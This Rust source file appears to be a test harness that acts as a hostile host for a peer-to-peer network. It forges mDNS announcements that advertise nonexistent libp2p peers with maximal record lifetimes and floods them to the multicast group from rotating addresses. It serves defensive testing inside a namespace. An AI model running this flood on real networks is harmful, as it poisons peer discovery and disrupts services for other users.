//! A hostile host that forges mDNS announcements (T-08), for tests inside a namespace.
//!
//! `mdns-flood COUNT PER-SECOND SOURCE...`: sends COUNT answers, each a new random peer with a life of 2^32-1 s, from the
//! given source addresses in turn, each from several ports. Prints `flooding`, then `done COUNT`.

use std::net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket};
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, ensure};
use libp2p_identity::PeerId;

const MDNS: (Ipv4Addr, u16) = (Ipv4Addr::new(224, 0, 0, 251), 5353);
const SERVICE: &[&str] = &["_p2p", "_udp", "local"];
const PORTS_PER_SOURCE: usize = 3;

fn main() -> Result<()> {
    let mut arguments = std::env::args().skip(1);
    let count: u32 = arguments.next().context("COUNT")?.parse()?;
    let per_second: u32 = arguments.next().context("PER-SECOND")?.parse()?;
    let mut sockets = Vec::new();
    for source in arguments {
        let source: IpAddr = source.parse()?;
        for _ in 0..PORTS_PER_SOURCE {
            sockets.push(UdpSocket::bind(SocketAddr::new(source, 0))?);
        }
    }
    ensure!(!sockets.is_empty(), "no SOURCE");
    println!("flooding");
    let began = Instant::now();
    for n in 0..count {
        let socket = &sockets[n as usize % sockets.len()];
        // A full queue is the network's business; a flood does not care.
        let _ = socket.send_to(&announcement(n)?, MDNS);
        let due = began + Duration::from_secs(1) * n / per_second;
        thread::sleep(due.saturating_duration_since(Instant::now()));
    }
    println!("done {count}");
    Ok(())
}

/// One answer: PTR from the service to a random name, TXT with the address of a peer that does not exist.
fn announcement(n: u32) -> Result<Vec<u8>> {
    let mut key = [0_u8; 38];
    key[..6].copy_from_slice(&[0x00, 0x24, 0x08, 0x01, 0x12, 0x20]);
    key[6..].copy_from_slice(&rand::random::<[u8; 32]>());
    let peer = PeerId::from_bytes(&key)?;
    let port = 2_000 + n % 60_000;
    let text = format!("dnsaddr=/ip4/10.77.9.9/udp/{port}/quic-v1/p2p/{peer}");
    let name = format!("forged{n:08}");

    let mut packet = vec![0, 0, 0x84, 0, 0, 0, 0, 1, 0, 0, 0, 1];
    let mut target = Vec::new();
    labels(&mut target, &[&name]);
    labels(&mut packet, SERVICE);
    record(&mut packet, 12, &target);
    labels(&mut packet, &[&name]);
    let mut strings = vec![u8::try_from(text.len())?];
    strings.extend_from_slice(text.as_bytes());
    record(&mut packet, 16, &strings);
    Ok(packet)
}

fn labels(packet: &mut Vec<u8>, labels: &[&str]) {
    for label in labels {
        packet.push(label.len() as u8);
        packet.extend_from_slice(label.as_bytes());
    }
    packet.push(0);
}

/// Type, class IN, the longest life, data.
fn record(packet: &mut Vec<u8>, kind: u16, data: &[u8]) {
    packet.extend_from_slice(&kind.to_be_bytes());
    packet.extend_from_slice(&1_u16.to_be_bytes());
    packet.extend_from_slice(&u32::MAX.to_be_bytes());
    packet.extend_from_slice(&(data.len() as u16).to_be_bytes());
    packet.extend_from_slice(data);
}
